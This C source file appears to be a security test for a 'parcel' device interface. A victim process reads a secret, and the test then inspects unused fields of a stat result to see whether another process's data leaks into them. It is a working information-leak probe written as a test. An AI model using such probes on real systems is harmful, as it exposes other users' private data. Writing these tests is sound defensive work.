// SPDX-License-Identifier: GPL-2.0-only
/*
 * Ask for the state of one's own parcel right after somebody else has read theirs, and look at
 * the members of the answer that do not apply to a parcel.
 */
#define _GNU_SOURCE
#include <stddef.h>
#include <string.h>

#include "attack.h"

#define SIZE	(SECRET_SIZE * 4)
#define TRIES	10

/* The victim reads a parcel that it has taken. */
static long read_secret(struct victim_state *state, int command)
{
	static __u32 parcel;
	char bytes[SIZE];
	int i;

	(void)command;
	if (!parcel) {
		for (i = 0; i < SIZE; i += SECRET_SIZE)
			memcpy(bytes + i, state->secret, SECRET_SIZE);
		must("send", parcel_send(state->file, state->box, bytes, SIZE, NULL, 0));
		parcel = parcel_take(state->file, state->box);
	}
	return parcel_read(state->file, parcel, 0, bytes, SIZE);
}

int main(int argc, char **argv)
{
	const size_t begin = offsetof(struct parcel_stat, name);
	const size_t end = offsetof(struct parcel_stat, info);
	struct parcel_stat stat;
	struct victim victim;
	char secret[SECRET_SIZE];
	int file, i, leaked = 0;
	__u32 box, parcel;
	const char *bytes;
	size_t at;

	attack_begin(argc, argv);
	victim_start(&victim, read_secret);
	victim_secret(&victim, secret);
	file = device_open();
	box = private_box(file);
	must("send", parcel_send(file, box, "mine", 4, NULL, 0));
	parcel = parcel_take(file, box);

	for (i = 0; i < TRIES; i++) {
		must("let the victim read", victim_do(&victim, 0));
		must("stat", parcel_stat(file, parcel, &stat));
		if (stat.kind != PARCEL_KIND_PARCEL || stat.info.length != 4)
			could_not("stat says something else than what was sent");

		bytes = (const char *)&stat;
		for (leaked = 0, at = begin; at < end; at++)
			leaked += bytes[at] != 0;
		if (!memmem(bytes + begin, end - begin, secret + SECRET_SIZE / 4, 8))
			continue;
		achieved("leaks", "stat told %zu bytes that another process had read: \"...%.*s\"",
			 end - begin, (int)strnlen(bytes + begin, end - begin), bytes + begin);
	}
	if (leaked)
		achieved("leaks", "stat told %d bytes that nobody set", leaked);
	refused("nothing but zeroes in what was not set");
}
